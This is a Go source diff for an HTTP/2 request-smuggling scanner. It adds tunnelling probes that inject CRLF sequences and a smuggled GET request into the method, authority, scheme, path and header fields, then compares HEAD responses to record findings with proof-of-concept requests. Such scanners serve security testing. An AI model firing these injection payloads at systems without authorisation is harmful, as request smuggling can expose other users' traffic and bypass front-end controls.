@@ -1,13 +1,31 @@
 package smuggler
 
 import (
-	"smuggler/config"
+	"errors"
+	"fmt"
+	"io"
+	"math"
+	"math/rand/v2"
+	"net"
+	"regexp"
 	"smuggler/smuggler/h2"
 	"smuggler/utils"
+	"strconv"
+	"strings"
+	"time"
 
 	"github.com/rs/zerolog/log"
 )
 
+// request tunnelling: the front-end doesn't share back-end connections between clients, so a
+// smuggled request only ever answers to the attacker. its response can still be seen with a HEAD
+// request, a front-end that trusts the content-length of the HEAD response reads (part of) the
+// tunnelled response as the body, and one that doesn't waits for bytes that never come
+
+const tunnelSample = 1024 // bytes of the HEAD response body kept as evidence
+
+var nestedStatus = regexp.MustCompile(`HTTP/1\.[01] [1-5][0-9][0-9]`)
+
 type Tunnel struct {
 	*DesyncerImpl
 
@@ -15,25 +33,18 @@ type Tunnel struct {
 }
 
 type tName struct {
-	name      string
-	test      string
-	confirm   string
+	name      string // the injected field
+	test      string // must be accepted by the front-end
+	tunnel    string // ends the request, the smuggled request follows
 	modifyReq func(*h2.Request, string)
 }
 
 func (t *Tunnel) Run() bool {
-	if config.Glob.Concurrent {
-		defer t.Wg.Done()
-	}
-
-	if !t.H2Supported {
-		return false
-	}
-
-	t.hdr = make(map[string][]string)
 	t.hdr = utils.CloneMap(t.Hdr)
-	for k, vv := range config.Glob.Hdr {
-		t.hdr[k] = append(t.hdr[k], vv[0])
+	for k, vv := range t.Opts.Headers { // per-host headers replace global ones with the same name
+		if !hasHeader(t.Hdr, k) {
+			t.hdr[k] = append(t.hdr[k], vv...)
+		}
 	}
 
 	baseReq := func() *h2.Request {
@@ -45,52 +56,56 @@ func (t *Tunnel) Run() bool {
 		}
 	}
 
+	host := t.URL.Host
+	smuggled := fmt.Sprintf("\r\n\r\nGET /hopefully404-%d HTTP/1.1\r\nHost: %s\r\nX-Ignore: x",
+		rand.Int32N(math.MaxInt32), host)
+
 	c := []tName{
 		{
-			name:    "method",
-			test:    "GET / HTTP/1.1\r\nFoo: bar",
-			confirm: "GET / HTTP/1.1\r\nHost: thisisadummyhost\r\n\r\n",
+			name:   "method",
+			test:   "GET / HTTP/1.1\r\nFoo: bar",
+			tunnel: "HEAD / HTTP/1.1\r\nHost: " + host + smuggled,
 			modifyReq: func(r *h2.Request, p string) {
 				r.Method = p
 			},
 		},
 		{
-			name:    "authority",
-			test:    "\r\nFoo: bar",
-			confirm: "\r\rHost: thisisadummyhost\r\n\r\n",
+			name:   "authority",
+			test:   "\r\nFoo: bar",
+			tunnel: smuggled,
 			modifyReq: func(r *h2.Request, p string) {
 				r.URL.Host += p
 			},
 		},
 		{
-			name:    "scheme",
-			test:    "\r\nFoo: bar",
-			confirm: "\r\rHost: thisisadummyhost\r\n\r\n",
+			name:   "scheme",
+			test:   "\r\nFoo: bar",
+			tunnel: smuggled,
 			modifyReq: func(r *h2.Request, p string) {
 				r.URL.Scheme += p
 			},
 		},
 		{
-			name:    "path",
-			test:    "a=b HTTP/1.1\r\nFoo: bar",
-			confirm: "a=b HTTP/1.1\r\nHost: thisisadummyhost\r\n\r\n",
+			name:   "path",
+			test:   "a=b HTTP/1.1\r\nFoo: bar",
+			tunnel: "a=b HTTP/1.1\r\nHost: " + host + smuggled,
 			modifyReq: func(r *h2.Request, p string) {
 				utils.AppendQueryParam(r.URL, p)
 			},
 		},
 		{
-			name:    "custom header key",
-			test:    "foo: bar\r\nx-my-hdr: x-val",
-			confirm: "foo: bar\r\nhost: thisisadummyhost\r\n\r\n",
+			name:   "custom header key",
+			test:   "foo: bar\r\nx-my-hdr: x-val",
+			tunnel: "foo: bar" + smuggled,
 			modifyReq: func(r *h2.Request, p string) {
 				r.Hdrs = utils.CloneMap(t.hdr)
 				r.Hdrs[p] = []string{"bar"}
 			},
 		},
 		{
-			name:    "custom header value",
-			test:    "bar\r\nx-my-hdr: x-val",
-			confirm: "bar\r\nhost: thisisadummyhost\r\n\r\n",
+			name:   "custom header value",
+			test:   "bar\r\nx-my-hdr: x-val",
+			tunnel: "bar" + smuggled,
 			modifyReq: func(r *h2.Request, p string) {
 				r.Hdrs = utils.CloneMap(t.hdr)
 				r.Hdrs["foo"] = []string{p}
@@ -99,45 +114,139 @@ func (t *Tunnel) Run() bool {
 	}
 
 	// might add more payloads (crlf sequence for waf evasion)
-	transport := h2.Transport{}
 	log.Info().
 		Str("endpoint", t.URL.String()).
 		Msg("Running H2 tunneling tests")
+
+	head := baseReq()
+	head.Method = "HEAD"
+	base, _, err := t.send(head)
+	if err != nil {
+		log.Debug().Err(err).Str("endpoint", t.URL.String()).Msg("HEAD request failed")
+	}
+
+	ctr := 0
 	for _, v := range c {
-		req := baseReq()
-		v.modifyReq(req, v.test)
-		resp, err := transport.RoundTrip(req)
-		if err != nil {
-			log.Debug().Err(err).Str("endpoint", req.URL.String()).Str("payload", v.test).Msg("")
-			continue
+		select {
+		case <-t.Ctx.Done():
+			return ctr > 0
+		default:
 		}
-		resp.Body.Close()
 
-		if resp.StatusCode >= 400 {
-			log.Debug().
-				Str("endpoint", t.URL.String()).
-				Msgf("response received with %s", resp.Status)
+		req := baseReq()
+		v.modifyReq(req, v.test)
+		ret, _, err := t.send(req)
+		if err != nil || ret.Status >= 400 {
+			log.Debug().Err(err).Str("endpoint", t.URL.String()).Str("payload", v.test).
+				Msgf("%s injection rejected", v.name)
 			continue
 		}
 
 		req = baseReq()
-		v.modifyReq(req, v.confirm)
-		resp, err = transport.RoundTrip(req)
-		if err != nil {
-			log.Debug().
-				Str("endpoint", t.URL.String()).
-				Err(err).Msg("")
-			continue
+		if v.name != "method" {
+			req.Method = "HEAD"
 		}
-		resp.Body.Close()
-
-		if resp.StatusCode < 400 { // expect an error as Hostname is invalid
-			continue
+		v.modifyReq(req, v.tunnel)
+		if t.tunnelled(v, req, base) {
+			ctr++
+			if t.Opts.ExitEarly {
+				return true
+			}
 		}
+	}
+	if ctr == 0 {
 		log.Info().
 			Str("endpoint", t.URL.String()).
-			Int("status", resp.StatusCode).
-			Msgf("%s injection might be interesting", v.name)
+			Str("status", "failure").
+			Msg("finished H2 tunneling tests: no issues found")
+	}
+	return ctr > 0
+}
+
+// sends the tunnelling HEAD request and records a finding if the response is nested in the body
+// or its length doesn't match the HEAD baseline. the injected method is only checked for a
+// nested response, the front-end doesn't see a HEAD
+func (t *Tunnel) tunnelled(v tName, req *h2.Request, base *Probe) bool {
+	ret, body, err := t.send(req)
+	if err != nil && ret.Code != ProbeTimeout {
+		log.Debug().Err(err).Str("endpoint", t.URL.String()).Msgf("%s tunnel failed", v.name)
+		return false
+	}
+
+	f := Finding{
+		Technique: H2Tunnel,
+		Header:    fmt.Sprintf("%s: %s", v.name, strconv.Quote(v.tunnel)),
+		Mutation:  "TUNNEL-" + strings.ToUpper(strings.ReplaceAll(v.name, " ", "-")),
+		Probes:    []Probe{*ret},
+		Request:   ret.Request,
+		PoC:       []PoCRequest{h2PoC(0, req)},
+	}
+	baseOK := false // a plain HEAD request gets a response without a body
+	if base != nil {
+		f.Probes = append(f.Probes, *base)
+		baseOK = base.Code == ProbeNormal && base.Status < 400
+	}
+	switch {
+	case nestedStatus.Match(body):
+		f.Confidence = 1
+		f.Confirmed = true
+		f.Evidence = []Probe{*ret}
+	case baseOK && req.Method == "HEAD" && (ret.Code == ProbeTimeout || len(body) > 0):
+		if t.Opts.Confirm { // only a symptom, like a timing hit
+			return false
+		}
+		f.Confidence = 0.5
+	default:
+		return false
+	}
+
+	log.Info().
+		Str("endpoint", t.URL.String()).
+		Str("mutation", f.Mutation).
+		Bool("confirmed", f.Confirmed).
+		Msgf("Potential H2 tunneling issue found - %s injection", v.name)
+	if !t.addFinding(f) {
+		return false
+	}
+	t.writeReport(fmt.Sprintf("tunnel-%d", rand.Int32N(math.MaxInt32)), f.Request)
+	return true
+}
+
+// sends req, the probe response has the status line, headers and the start of the body
+func (t *Tunnel) send(req *h2.Request) (*Probe, []byte, error) {
+	ret, body, err := t.roundTrip(req)
+	sent := h2PoC(0, req)
+	ret.H2 = &sent
+	return ret, body, err
+}
+
+func (t *Tunnel) roundTrip(req *h2.Request) (*Probe, []byte, error) {
+	timeout, _ := t.timeouts(true)
+	transport := h2.Transport{Timeout: timeout, TLS: t.Opts.TLS, Dialer: t.Opts.Dialer}
+	raw := utils.GetH2RequestSummary(req)
+	release, err := t.acquire()
+	if err != nil {
+		return newProbe(ProbeError, raw, 0, 0), nil, err
+	}
+	defer release()
+	start := time.Now()
+	resp, err := transport.RoundTrip(req)
+	diff := time.Since(start)
+	t.observe(resp)
+	if err != nil {
+		var netErr net.Error // check for timeout error
+		if errors.As(err, &netErr) && netErr.Timeout() {
+			return newProbe(ProbeTimeout, raw, diff, 0), nil, err
+		}
+		return newProbe(ProbeError, raw, diff, 0), nil, err
+	}
+	defer resp.Body.Close()
+
+	body, err := io.ReadAll(io.LimitReader(resp.Body, tunnelSample))
+	if err != nil {
+		return newProbe(ProbeError, raw, diff, resp.StatusCode), nil, err
 	}
-	return false
+	ret := newProbe(ProbeNormal, raw, diff, resp.StatusCode)
+	ret.Response = dumpResponse(resp) + string(body)
+	return ret, body, nil
 }